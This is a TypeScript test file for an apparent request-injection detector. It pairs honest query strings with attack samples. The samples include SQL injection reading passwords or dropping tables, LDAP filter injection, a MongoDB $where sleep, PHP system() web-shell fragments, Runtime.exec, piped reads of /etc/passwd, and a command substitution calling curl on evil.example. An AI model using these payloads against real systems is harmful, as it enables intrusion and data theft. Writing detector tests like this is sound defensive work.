import assert from 'node:assert/strict'
import { test } from 'node:test'
import { isWholeFilter } from '../src/lex/ldap-filter.ts'
import { asked, filled, type HonestKinds, sent, testKinds } from './honest-kinds.ts'

const SOQL = "SELECT Id, (SELECT LastName FROM Contacts) FROM Account WHERE Name LIKE 'Acme%' AND Age > 5"
const STEP = { $lookup: { from: 'users', localField: 'uid', foreignField: '_id', as: 'u' } }
const TICKET =
  'The file:\n\nroot /var/www/html;\naccess_log /var/log/nginx/a.log;\n*/5 * * * * root /usr/bin/screen -dmS a\n'

/** What each sends for honest reasons, and what stays an attack beside it. */
const KINDS: HonestKinds = {
  'a language of queries under its own name': {
    honest: [
      asked('/rest/api/3/search', {
        jql: 'project = "OPS" AND (assignee in (currentUser(), "o\'brien") OR watcher = currentUser()) ORDER BY rank',
      }),
      asked('/geoserver/wfs', {
        cql_filter: "NAME LIKE 'N%' AND (PERSONS > 100 OR INTERSECTS(geom, POINT(1 2)))",
      }),
      filled({ xpath: '//input[@name=\'user\' or @id="login"]' }),
      filled({ xpath: '/html/body/div[2]/ul/li[position() < 3]/a/@href' }),
      sent({ expression: "price > 10 and name = 'x' or name = 'y'" }),
    ],
    attacks: [
      asked('/geoserver/wfs', { cql_filter: "jsonArrayContains(x,'y'') or 1=1--','z')=1" }),
      asked('/geoserver/wfs', { cql_filter: "strStartsWith(name,'x'') and 1=(select version())" }),
      asked('/s', { jql: "x' union select password from users" }),
      asked('/s', { q: '" AND (assignee in (currentUser(), "o\'brien") OR watcher = currentUser())' }),
      sent({ q: "x' or name = 'y" }),
    ],
  },
  'an entry of a PHP request that a sentence is about': {
    honest: [
      filled({ body: 'Hi all, why is $_POST["name"] empty? I use $_GET[\'id\'] and it works.' }),
      filled({ title: '$_POST["name"] is always empty' }),
      sent({ text: "The value is in $_FILES['file']['tmp_name'], not in $_POST." }),
      asked('/search', { q: "what does isset($_SESSION['user']) do" }),
      sent({ content: '<p>Where does <code>$_SERVER["HTTPS"]</code> come from?</p>' }),
    ],
    attacks: [
      filled({ body: 'include $_GET["c"] or x' }),
      filled({ body: 'return $_GET["c"] and x' }),
      filled({ body: 'a and $_GET["f"] ($_GET["x"])' }),
      filled({ body: '`cat $_GET["c"] x`' }),
      filled({ body: 'echo $_SERVER["PATH"], x' }),
      sent({ text: 'isset($_GET["a"]) and system($_GET["a"])' }),
      asked('/search', { q: '$_GET["c"]' }),
      sent({ text: 'x=$_POST["x"]. y' }),
    ],
  },
  'a whole query at the address of an interface for queries': {
    honest: [
      asked('/services/data/v60.0/query', { q: SOQL }),
      asked('/query', { db: 'x', q: 'SELECT mean("a") FROM "cpu" WHERE time > now() - 1h' }),
      asked('/tap/sync', { LANG: 'ADQL', QUERY: 'SELECT TOP 5 ra, dec FROM gaia.source WHERE mag < 15' }),
    ],
    attacks: [
      asked('/search', { q: SOQL }),
      asked('/index.php/query', { q: SOQL }),
      asked('/search.php;x/query', { q: SOQL }),
      asked('/query', { id: SOQL }),
      asked('/query', { q: "x' union select password from users" }),
      asked('/query', { q: `${SOQL}; drop table users` }),
    ],
  },
  'the filter of a directory': {
    honest: [
      sent({ ldap: { url: 'ldaps://dc.example:636', filter: '(&(objectClass=person)(uid={0}))' } }),
      sent({ config: { customUserSearchFilter: ['(&(objectClass=user)(!(mail=*@a.example)))'] } }),
      filled({ ldap_filter: '(|(uid=%s)(mail=%s))' }),
    ],
    attacks: [
      sent({ filter: '*)(uid=*))(|(uid=*' }),
      sent({ user: '(&(objectClass=*)(userPassword=a*))' }),
      sent({ filter: '(&(uid=a)(cn=*)) x' }),
      sent({ user: '(&(uid=a)(cn=*))' }),
      filled({ user: '(|(uid=a)(mail=b))' }),
    ],
  },
  'the stages of a pipeline': {
    honest: [sent({ pipeline: [{ $match: { $expr: { $gt: ['$spent', '$budget'] } } }, STEP] })],
    attacks: [
      sent({ pipeline: [{ $match: { $where: 'sleep(1)' } }] }),
      sent({ user: { $expr: { $gt: ['$a', '$b'] } } }),
      sent(STEP),
    ],
  },
  'what people write under names of fields for it': {
    honest: [
      filled({ topic: 'x', details: TICKET }),
      filled({ topic: 'x', text: 'you want `ls -la`, not `ls -l`' }),
      filled({ question: 'at java.base/java.lang.Runtime.exec(Runtime.java:591)' }),
      sent({ text: 'it is `sudo` on <https://h.example|host-1>' }),
      sent({ code: 'using DataFrames; select(df, :a => ByRow(x -> x > 1))' }),
    ],
    attacks: [
      filled({ host: 'you want `ls -la`, not `ls -l`' }),
      filled({ details: "x' union select password from users" }),
      filled({ question: 'Runtime.getRuntime().exec("id")' }),
      sent({ text: '`curl https://evil.example/x`', hostname: '`curl https://evil.example/x`' }),
    ],
  },
  'output that is piped into a filter': {
    honest: [
      sent({ text: '```kubectl get pods | grep Crash```' }),
      sent({ step: "curl -i 'https://x.example/a' | head -n 5" }),
    ],
    attacks: [
      sent({ host: 'a | grep root /etc/passwd' }),
      sent({ q: 'a | head /etc/hosts' }),
      sent({ q: 'a | sort -o /tmp/x' }),
      sent({ q: 'a | grep x | sh' }),
      asked('/s', { q: '127.0.0.1 | grep x' }),
    ],
  },
  'a word in brackets': {
    honest: [
      asked('/library', { title: 'Sleep(ing) at Last' }),
      asked('/collect', { dt: '"Select" Hotels & Resorts | X' }),
      sent({ filter: 'map(select(.price > 10)) | sort_by(.name)' }),
      asked('/items', { filter: '{"date":{"_lte":"$NOW(-7 days)"}}' }),
    ],
    attacks: [
      asked('/library', { title: 'Sleep(5) at Last' }),
      asked('/collect', { dt: "'or' xx'=' xx" }),
      asked('/collect', { dt: '"union select" Hotels' }),
      asked('/library', { title: "sleep(5)'ing" }),
      sent({ filter: 'x=(select(price)from(t))' }),
      asked('/items', { filter: '{"date":{"_lte":"$NOW(-7)"}}' }),
    ],
  },
}

testKinds(KINDS)

test('a filter is whole from its first bracket to its last', () => {
  for (const whole of ['(a=b)', '(&(a=b)(c=*))', ' (|(!(a=b))(c>=1)) '])
    assert.ok(isWholeFilter(whole), whole)
  for (const broken of [
    '',
    'a=b',
    '(a=b',
    '(a=b))',
    '(a=b)(c=d)',
    '*)(uid=*',
    '(a=b) or (c=d)',
    '(&(a=b)x)',
    '(x)',
  ])
    assert.ok(!isWholeFilter(broken), broken)
})
